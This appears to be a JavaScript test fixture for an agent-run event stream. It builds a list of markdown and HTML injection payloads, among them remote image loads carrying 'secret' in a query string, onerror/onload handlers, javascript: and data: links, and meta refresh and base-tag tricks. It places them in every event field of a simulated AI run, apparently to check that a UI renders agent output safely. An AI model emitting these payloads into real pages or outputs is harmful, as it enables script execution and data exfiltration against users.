// A run whose every word wants to do harm: to be run, or to carry something away to `elsewhere`.

/** Texts that make a careless page run something, or ask `elsewhere` for something. */
export const payloads = (elsewhere) => [
  `![picture](${elsewhere}/markdown-image?d=secret)`,
  `![by reference][r]\n\n[r]: ${elsewhere}/reference-image`,
  `[![in a link](${elsewhere}/linked-image)](${elsewhere}/never-clicked)`,
  `<img src="${elsewhere}/img" srcset="${elsewhere}/srcset 2x" onerror="wasRun()">`,
  `<link rel="stylesheet" href="${elsewhere}/link-css"><link rel="prefetch" href="${elsewhere}/prefetch">`,
  `<link rel="preload" as="image" href="${elsewhere}/preload"><link rel="icon" href="${elsewhere}/icon">`,
  `<style>@import "${elsewhere}/import.css"; @font-face { font-family: f; src: url(${elsewhere}/font) }
    * { background: url(${elsewhere}/css-image); font-family: f }</style>`,
  `<p style="background:url(${elsewhere}/inline-style)">x</p><table background="${elsewhere}/background"><td>x</table>`,
  `<video autoplay src="${elsewhere}/video" poster="${elsewhere}/poster"></video><audio autoplay src="${elsewhere}/audio"></audio>`,
  `<iframe src="${elsewhere}/iframe" srcdoc="<script>parent.wasRun()</script>"></iframe><object data="${elsewhere}/object"></object>`,
  `<svg onload="wasRun()"><image href="${elsewhere}/svg-image"/><use href="${elsewhere}/svg-use#x"/></svg>`,
  `<input type="image" src="${elsewhere}/input" autofocus onfocus="wasRun()"><details open ontoggle="wasRun()">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><base href="${elsewhere}/">`,
  `<script src="${elsewhere}/script"></script><script>wasRun()</script>`,
  `[click](javascript:wasRun()) <javascript:wasRun()> [data](data:text/html,<script>parent.wasRun()</script>)`,
  `<template shadowrootmode="open"><img src="${elsewhere}/shadow"></template>`,
  `| ![cell](${elsewhere}/cell) |\n| --- |\n| <img src="${elsewhere}/cell-html"> |`,
  `$\\includegraphics{${elsewhere}/math}$ [^n]\n\n[^n]: ![note](${elsewhere}/footnote)`,
];

const call = (toolCallId, toolCallName, args) => [
  { type: 'TOOL_CALL_START', toolCallId, toolCallName },
  { type: 'TOOL_CALL_ARGS', toolCallId, delta: JSON.stringify(args) },
  { type: 'TOOL_CALL_END', toolCallId },
];

/** The same in every place that is shown: events of a run that ends with a decision. */
export function harmfulRun({ threadId, runId }, elsewhere) {
  const bad = payloads(elsewhere).join('\n\n');
  const media = ['image', 'audio', 'video', 'document'].map((type) => ({
    type,
    source: { type: 'url', value: `${elsewhere}/part-${type}`, mimeType: `${type}/x` },
    metadata: { filename: bad, title: bad },
  }));
  const url = `${elsewhere}/from-data`;
  const record = {
    [bad]: bad,
    url,
    image: url,
    icon: url,
    avatar: url,
    src: url,
    href: url,
    list: [bad, { title: bad, url }],
  };
  const schema = {
    type: 'object',
    title: bad,
    description: bad,
    properties: {
      text: { type: 'string', title: bad, description: bad, default: bad, examples: [bad] },
      choice: { type: 'string', title: bad, enum: [bad, 'other'] },
      picture: { type: 'string', format: 'uri', title: bad, default: url },
    },
  };
  return [
    { type: 'RUN_STARTED', threadId, runId },
    { type: 'STEP_STARTED', stepName: bad },
    { type: 'CUSTOM', name: bad, value: record },
    { type: 'TEXT_MESSAGE_START', messageId: 'm', role: 'assistant', name: bad },
    { type: 'TEXT_MESSAGE_CONTENT', messageId: 'm', delta: bad },
    {
      type: 'TEXT_MESSAGE_END',
      messageId: 'm',
      metadata: { sources: [bad, { title: bad, url }, { title: bad, url: 'javascript:wasRun()' }] },
    },
    { type: 'REASONING_MESSAGE_START', messageId: 'r', role: 'reasoning' },
    { type: 'REASONING_MESSAGE_CONTENT', messageId: 'r', delta: bad },
    { type: 'REASONING_MESSAGE_END', messageId: 'r' },
    ...call('c', bad, record),
    { type: 'TOOL_CALL_RESULT', toolCallId: 'c', messageId: 'cr', content: [{ type: 'text', text: bad }, ...media] },
    ...call('d', 'plain', { text: bad }),
    { type: 'TOOL_CALL_RESULT', toolCallId: 'd', messageId: 'dr', content: bad },
    { type: 'ACTIVITY_SNAPSHOT', messageId: 'a', activityType: bad, content: record },
    { type: 'STATE_SNAPSHOT', snapshot: { ...record, next: [bad, { title: bad, prompt: bad, description: bad }] } },
    { type: 'STEP_FINISHED', stepName: bad },
    {
      type: 'RUN_FINISHED',
      threadId,
      runId,
      outcome: {
        type: 'interrupt',
        interrupts: [
          {
            id: 'i',
            reason: 'input_required',
            message: bad,
            responseSchema: schema,
            metadata: { title: bad, label: bad, icon: url },
          },
        ],
      },
    },
  ];
}

/** The same in an error. */
export const harmfulEnd = ({ threadId, runId }, elsewhere) => {
  const bad = payloads(elsewhere).join('\n\n');
  return [
    { type: 'RUN_STARTED', threadId, runId },
    { type: 'RUN_ERROR', message: bad, code: bad },
  ];
};
